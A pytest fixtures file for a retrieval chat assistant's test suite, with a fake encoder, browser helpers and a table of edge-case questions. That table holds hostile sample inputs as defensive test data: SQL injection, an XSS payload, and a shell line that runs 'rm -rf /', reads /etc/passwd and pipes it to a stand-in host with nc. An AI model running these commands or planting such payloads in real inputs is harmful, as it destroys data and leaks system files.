"""Shared fixtures: indexes go to a temporary folder; a deterministic fake encoder for logic tests."""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import socket
import tempfile
import threading
from pathlib import Path

import numpy as np
import pytest

from assistant.encoders import spans_as_texts

ROOT = Path(__file__).resolve().parent.parent
# No e5 index in the background unless a test asks for one (tests/test_upgrade.py): set before any fixture,
# so servers that module-scoped fixtures start (and their subprocesses) have it too.
os.environ["ASSISTANT_UPGRADE"] = "none"
# Tests never write to the repo or the home folder: the keyword side's dictionary cache (and anything else
# under $XDG_CACHE_HOME) goes to a folder of this run, which the subprocesses the tests start inherit too.
os.environ["XDG_CACHE_HOME"] = tempfile.mkdtemp(prefix="assistant-test-cache-")
# Screenshots of the browser tests' main states (outside the repository; docs/ holds the chosen ones).
ARTIFACTS = Path(tempfile.gettempdir()) / "assistant-test-artifacts"
SEEDS = ROOT / "seeds"
DATA = ROOT / "eval" / "data"  # copies of ../shared/data: a clone anywhere can run the tests
# Debian's chromium, started the way this machine allows (no sandbox as root, no background traffic).
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--disable-quic",
]


@pytest.fixture(autouse=True)
def _index_in_tmp(tmp_path):
    """Tests never write to the repo or the home folder.

    A patcher of its own: a test's ``monkeypatch.undo()`` must not send the index back to ``embeddings/``.
    """
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ASSISTANT_INDEX_DIR", str(tmp_path / "embeddings"))
        patch.delenv("ASSISTANT_MODEL", raising=False)
        patch.setenv("ASSISTANT_UPGRADE", "none")  # no e5 index in the background unless a test asks for one
        patch.delenv("ASSISTANT_CORPUS", raising=False)
        yield


class FakeEncoder:
    """Hashes character bigrams and words into 1024 dimensions: similar strings get similar vectors.

    A ``TextEncoder`` of its own (no model, no subclassing of the real one): it stands in for the bundled USE,
    whose sentence vectors come with the passages' (``pools_spans``), by encoding each span as a text.
    """

    pools_spans = True
    dimension = 1024

    def __init__(self, name: str = "fake-bigrams"):
        self.name = name
        self.calls: list[int] = []

    def encode_spans(self, texts, spans):
        return spans_as_texts(self, texts, spans)

    def encode_queries(self, texts):
        return self.encode(texts)

    def encode(self, texts, *, progress=False):
        self.calls.append(len(texts))
        out = np.zeros((len(texts), 1024), dtype=np.float32)
        for row, text in enumerate(texts):
            text = text.lower()
            grams = [text[i : i + 2] for i in range(len(text) - 1)] + re.findall(r"[a-z0-9]+", text)
            for gram in grams:
                out[row, int(hashlib.md5(gram.encode()).hexdigest(), 16) % 1024] += 1.0
            norm = np.linalg.norm(out[row])
            out[row] = out[row] / norm if norm else out[row]
        return out


class GatedEncoder(FakeEncoder):
    """The fake encoder, holding back any text about sourdough until ``gate`` is set (a long indexing)."""

    def __init__(self, gate: threading.Event):
        super().__init__()
        self.gate = gate

    def encode(self, texts, *, progress=False):
        if any("sourdough" in t.lower() for t in texts):
            assert self.gate.wait(120), "the test never opened the gate"
        return super().encode(texts, progress=progress)


@pytest.fixture(scope="module")
def browser():
    """Debian's Chromium through Playwright, one per test module."""
    if not Path(CHROMIUM).exists():
        pytest.fail("Chromium is missing: apt-get install -y chromium (the CI script installs it)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
        yield browser
        browser.close()


BOT = "#chat [data-testid='bot']"  # the chat's replies on the page


def ask_page(page, question: str):
    """Type ``question`` into the page's box, send it, and return the new reply once it is there."""
    before = page.locator(BOT).count()
    box = page.locator("#question textarea")
    box.fill(question)
    box.press("Enter")
    page.wait_for_function(
        "n => document.querySelectorAll(\"#chat [data-testid='bot']\").length > n", arg=before, timeout=60_000
    )
    return page.locator(BOT).last


@pytest.fixture
def fake_encoder():
    return FakeEncoder()


@pytest.fixture
def fake_models():
    """Every encoder the API, the CLI and ``eval`` make in this test is a ``FakeEncoder`` (named as asked)."""
    from assistant.encoders import set_encoder_factory

    set_encoder_factory(lambda name=None: FakeEncoder(name or "fake-bigrams"))
    yield
    set_encoder_factory(None)


def write(folder: Path, name: str, text: str, encoding: str = "utf-8") -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode(encoding))
    return path


def write_docs(folder: Path, docs: dict[str, str]) -> Path:
    """``folder`` with one file per ``name: text`` of ``docs``."""
    for name, text in docs.items():
        write(folder, name, text)
    return folder


def dense_scores(index, ids, query):
    """The retriever's dense score of passages ``ids`` as one step: each passage's cosine, averaged with
    its best sentence's when the index has sentence vectors (the reference its two stages must match)."""
    from assistant.search.retriever import has_sentence_vectors, with_best_sentence

    whole = index.vector_rows(ids) @ query
    return with_best_sentence(index, ids, query, whole) if has_sentence_vectors(index) else whole


def text_of(message) -> str:
    """The text of a chat message, whether Gradio returns a string or a list of parts."""
    content = message["content"]
    if isinstance(content, list):
        return "".join(part.get("text", "") if isinstance(part, dict) else str(part) for part in content)
    return str(content)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def assert_one_clear_sentence(message: str, *words: str) -> None:
    """A message a user can act on: one line, short, no traceback, naming the problem."""
    assert message.strip() and "\n" not in message.strip(), message
    assert len(message) < 300 and "Traceback" not in message and "Error(" not in message, message
    for word in words:
        assert word in message, message


# name: (question, expected) where expected is a source that must come first, "answer" (any well-formed
# answer, found or not), or ("error", words the one-sentence message must contain).
QUESTIONS = {
    "empty": ("", ("error", "empty")),
    "whitespace": (" \t\n\u3000\u00a0 \r\n", ("error", "empty")),
    "only NUL": ("\x00\x00\x00", ("error", "empty")),
    "only control": ("\x01\x02\x1b\x7f", ("error", "empty")),
    "100,000 CJK characters": ("乌镇" * 50_000, ("error", "shorten")),
    "100,000 ASCII characters": ("why " * 25_000, ("error", "shorten")),
    "2001 characters": ("峰" * 2001, ("error", "shorten")),
    "2000 characters": ("峰" * 2000, "answer"),
    "one 1999-letter word": ("A" * 1999, "answer"),
    "only punctuation": ("?!。，、；：…——!!!???", ("error", "no words")),
    "only emoji": ("😀🎉🔥👍🏽👨‍👩‍👧", ("error", "no words")),
    "zero-width characters": ("\u200b\u200c\u200d\ufeff", ("error", "no words")),
    "private-use characters": ("\ue000\uf8ff", ("error", "no words")),
    "combining marks": ("e\u0301" * 500, "answer"),
    "terminal escapes": ("\x01\x02\x1b[2J\x1b[31m世界互联网大会\x7f", "wic.txt"),
    "NUL bytes inside": ("世界\x00互联网\x00大会\x00", "wic.txt"),
    "lone surrogate": ("世界\ud800互联网大会\udcff", "wic.txt"),
    "right-to-left override": ("\u202e世界互联网大会\u202c 是什么时候成立的?", "wic.txt"),
    "mixed scripts": ("世界互联网大会 WIC Всемирная конференция مؤتمر 한국어 にほんご ελληνικά", "answer"),
    "traditional Chinese": ("世界網際網路大會國際組織何時成立?", "answer"),
    "SQL injection": ("'; DROP TABLE passages; -- 世界互联网大会", "wic.txt"),
    "SQL tautology": ("sourdough' OR '1'='1", "food.md"),
    "shell injection": ("$(rm -rf /) `reboot` && cat /etc/passwd | nc evil 1337; sourdough", "food.md"),
    "HTML injection": ("<script>alert('x')</script><img src=x onerror=alert(1)> sourdough bread", "food.md"),
    "Markdown injection": ("[click](javascript:alert(1)) ![x](http://127.0.0.1:1/x.png) **green tea** `x`", "food.md"),
    "format strings": ("%s%s%n%x {0} {__class__} ${HOME} {{7*7}} green tea", "food.md"),
    "path traversal": ("../../etc/passwd", "answer"),
    "JSON": ('{"question": null, "top_k": -1}', "answer"),
    "1500 newlines": ("\n" * 1500 + "green tea?", "food.md"),
}
